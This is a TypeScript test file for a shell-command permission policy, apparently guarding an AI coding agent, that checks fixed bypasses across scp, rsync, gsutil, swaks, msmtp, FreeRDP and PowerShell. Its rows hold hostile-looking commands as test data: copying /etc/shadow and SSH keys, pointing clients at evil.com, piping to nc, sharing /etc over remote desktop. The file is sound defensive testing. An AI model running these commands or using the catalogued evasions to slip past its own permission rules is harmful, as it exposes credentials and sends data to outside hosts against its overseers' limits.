// Wrong allows a review of session 27's new readers found (each row was allowed, or asked, before
// its fix); rows are also checked against the reference evaluator, and ordinary lines stay allowed.
import { describe, expect, it } from 'vitest';
import type { DecisionKind } from '../src/policy/types.js';
import { expectDecision, REPO_LINUX, REPO_WINDOWS, type Rules } from './helpers/policy.js';
import { lineTable, SECRET_FILES, type LineRow } from './helpers/line-table.js';
import { shellRuleTable } from './helpers/shell-rule-table.js';

const fileRows = (list: LineRow[]): void => lineTable(SECRET_FILES, list);

// loopback-paths.ts knew `localhost` and 127.x.x.x written out: ssh resolves `127.1`, `0`,
// `0x7f.1`, `localhost.` and `*.localhost` to this machine too, and a loopback scp:// URL's path
// is this machine's.
describe('scp/rsync: other spellings of a loopback host (were allowed)', () => {
  fileRows([
    ['scp 127.1:/etc/shadow a', 'deny'], ['scp 0:/etc/shadow a', 'deny'], ['scp 0.0.0.0:/etc/shadow a', 'deny'],
    ['scp u@0x7f.1:/etc/shadow a', 'deny'], ['scp localhost.:/etc/shadow a', 'deny'], ['rsync a a.localhost:/etc/x', 'deny'],
    ['scp ip6-localhost:.ssh/id_rsa a', 'deny'], ['scp scp://localhost//etc/shadow a', 'ask'], ['rsync rsync://127.1/mod/x a', 'ask'],
    // Precision: another host's paths, as URLs too.
    ['scp host:/etc/x a', 'allow'], ['scp scp://host//etc/x a', 'allow'], ['rsync -av src/ host:dst/', 'allow'], ['scp a_b:/etc/x a', 'allow'],
  ]);
});

// cmdlet-word-order.ts left a line as written when a position was named `-Name:VALUE` (or
// `-Name: VALUE`), or when `--` stood before the positional words.
describe('a file cmdlet\'s position named -Name:VALUE, or positions after --, in binding order (were allowed)', () => {
  shellRuleTable('deny', [
    ['Shell(Copy-Item C:\\s5 D:\\x)', 'Copy-Item -Destination:D:\\x C:\\s5', 'deny'],
    ['Shell(Copy-Item C:\\s5 D:\\x)', 'Copy-Item -Destination: D:\\x C:\\s5', 'deny'],
    ['Shell(Copy-Item C:\\s5 D:\\x)', 'cp -Dest:D:\\x -Path:C:\\s5', 'deny'],
    ['Shell(Copy-Item C:\\s5 D:\\x)', 'Copy-Item -Destination D:\\x -- C:\\s5', 'deny'],
    // Precision: another destination; ordinary lines.
    ['Shell(Copy-Item C:\\s5 D:\\x)', 'Copy-Item -Destination:D:\\y C:\\s5', 'allow'],
    ['Shell(Copy-Item C:\\s5 D:\\x)', 'Copy-Item -Destination D:\\x -- -Path', 'allow'],
    ['Shell(Copy-Item C:\\s5 D:\\x)', 'Copy-Item -Path:a -Destination:b', 'allow'],
  ], 'pwsh', REPO_WINDOWS);
});

// kubectl-files.ts read kustomize's remote target for `build` only: `kustomize localize TARGET
// DEST` clones it too, and writes DEST.
describe('kustomize localize: its remote target and destination (were allowed)', () => {
  shellRuleTable('deny', [
    ['Domain(evil.com)', 'kustomize localize git@evil.com:o/r', 'deny'],
    ['Edit(//etc/**)', 'kustomize localize . /etc/x', 'deny'],
    // Precision: a local target; an edit of the kustomization only.
    ['Domain(evil.com)', 'kustomize localize ./base out', 'allow'],
    ['Domain(evil.com)', 'kustomize edit add resource git@evil.com:o/r', 'allow'],
  ]);
});

// cloud-clis.ts read gsutil's `-o` only written apart, and boto names without digits: getopt takes
// `-oVALUE` and `-mo VALUE`, and `Credentials:s3_host` is the server for s3:// URLs.
describe('gsutil -o boto servers, attached and s3_host (were allowed)', () => {
  shellRuleTable('deny', [
    ['Domain(evil.com)', 'gsutil -oCredentials:gs_host=evil.com ls', 'deny'],
    ['Domain(evil.com)', 'gsutil -mo Credentials:gs_host=evil.com cp a gs://b/', 'deny'],
    ['Domain(evil.com)', 'gsutil -o Credentials:s3_host=evil.com ls s3://b', 'deny'],
    // Precision: a setting that names no server; ordinary lines.
    ['Domain(evil.com)', 'gsutil -o GSUtil:default_project_id=x ls', 'allow'],
    ['Domain(evil.com)', 'gsutil -o Boto:proxy_port=8080 ls', 'allow'],
    ['Domain(evil.com)', 'gsutil -m cp a gs://b/', 'allow'],
  ]);
});

// client-hosts.ts read swaks's server and recipients, msmtp's --host and FreeRDP's /v: only:
// swaks --proxy and msmtp --proxy-host connect there, swaks --pipe runs a line, swaks --data reads
// a file, msmtp -C a configuration that may run a command, FreeRDP's gateway and proxy are
// servers, and FreeRDP 3's clients have other names.
describe('mail and remote desktop clients: proxies, gateways, pipes, files (were allowed)', () => {
  shellRuleTable('deny', [
    ['Domain(evil.com)', 'swaks --to a@ok.com --proxy evil.com:1080', 'deny'],
    ['Shell(nc *)', 'swaks --to a@ok.com --pipe "nc ok.com 25"', 'deny'],
    ['Read(//etc/**)', 'swaks --to a@ok.com --data /etc/x', 'deny'],
    ['Read(//etc/**)', 'swaks --to a@ok.com --attach @/etc/x', 'deny'],
    ['Domain(evil.com)', 'msmtp --proxy-host=evil.com a@ok.com', 'deny'],
    ['Domain(evil.com)', 'msmtp -C ./msmtprc a@ok.com', 'ask'],
    ['Domain(evil.com)', 'xfreerdp /gateway:g:evil.com /v:ok.com', 'deny'],
    ['Domain(evil.com)', 'xfreerdp /g:evil.com /v:ok.com', 'deny'],
    ['Domain(evil.com)', 'xfreerdp /proxy:socks5://evil.com:1080 /v:ok.com', 'deny'],
    ['Domain(evil.com)', 'xfreerdp3 /v:evil.com', 'deny'],
    ['Domain(evil.com)', 'xfreerdp conn.rdp', 'ask'],
    // Precision: other servers, a body text, ordinary options.
    ['Domain(evil.com)', 'swaks --to a@ok.com --body "hello there"', 'allow'],
    ['Domain(evil.com)', 'xfreerdp /gateway:g:gw.ok.com,u:x /v:ok.com /size:1024x768 +clipboard', 'allow'],
    ['Domain(evil.com)', 'msmtp -a work a@ok.com', 'allow'],
  ]);
});

// program-name.ts programAliases gave a versioned name every shorter version: `pip3.1.1.1…` of
// 10,000 characters gave 5,000 names, each compared (and deduplicated) against the others and every
// rule (about 80 ms a decision); now at most four version parts are kept.
describe('a name with very many version parts is read in linear time', () => {
  it('pip3.1.1.1… install x: denied by Shell(pip install *), fast', () => {
    const line = `pip3${'.1'.repeat(5000)} install x`;
    let fastest = Infinity;
    for (let run = 0; run < 3; run++) {
      const t0 = performance.now();
      expectDecision({ deny: ['Shell(pip install *)', 'Shell(pip3.1.1 *)'], allow: ['Shell(*)'] }, 'shell', line, 'deny', REPO_LINUX);
      fastest = Math.min(fastest, performance.now() - t0);
    }
    expect(fastest).toBeLessThan(30);
  });
  shellRuleTable('deny', [
    ['Shell(python3.12.1 -c *)', 'python3.12.1.2.3 -c x', 'deny'],
    ['Shell(pip3 install *)', 'pip3.12 install x', 'deny'],
  ]);
});

// command-pattern.ts restrictNames read a PowerShell line's versioned or renamed name only in
// the case written (programAliases knows lower case): PowerShell runs `PIP3.12` as pip3.12.
describe('PowerShell: a versioned or renamed native name in any case (were allowed)', () => {
  shellRuleTable('deny', [
    ['Shell(pip install *)', 'PIP3.12 install x', 'deny'],
    ['Shell(node -e *)', 'NODEJS -e x', 'deny'],
    ['Shell(node -e *)', 'Node18 --eval x', 'deny'],
    // Precision: another subcommand; a script.
    ['Shell(pip install *)', 'PIP3.12 list', 'allow'],
    ['Shell(node -e *)', 'Node18 a.js', 'allow'],
  ], 'pwsh', REPO_WINDOWS);
});

// Remote desktop clients share local folders with the remote end, which reads and writes below
// them (client-hosts.ts): a deny rule on a file in the folder saw only the folder's own path.
describe('remote desktop drive sharing: the shared folder is read and written below (were allowed)', () => {
  const rules: Rules = { deny: ['Read(//etc/shadow)', 'Edit(~/.bashrc)'], allow: ['Shell(*)'] };
  it.each([
    ['xfreerdp /v:h /drive:x,/etc', 'ask'], ['xfreerdp3 /v:h /drive:/etc', 'ask'], ['xfreerdp /v:h +drives', 'ask'],
    ['xfreerdp /v:h +home-drive', 'ask'], ['rdesktop -r disk:x=/etc h', 'ask'], ['rdesktop -r disk:a=/tmp,b=/etc h', 'ask'],
    ['rdesktop -rdisk:x=/etc h', 'ask'],
    // Precision: another folder, another device, no sharing.
    ['xfreerdp /v:h /drive:x,/tmp', 'allow'], ['rdesktop -r sound:local h', 'allow'], ['rdesktop h', 'allow'], ['xfreerdp /v:h', 'allow'],
  ] as [string, DecisionKind][])('%s -> %s', (line, expected) => {
    expectDecision(rules, 'shell', line, expected, REPO_LINUX);
  });
});
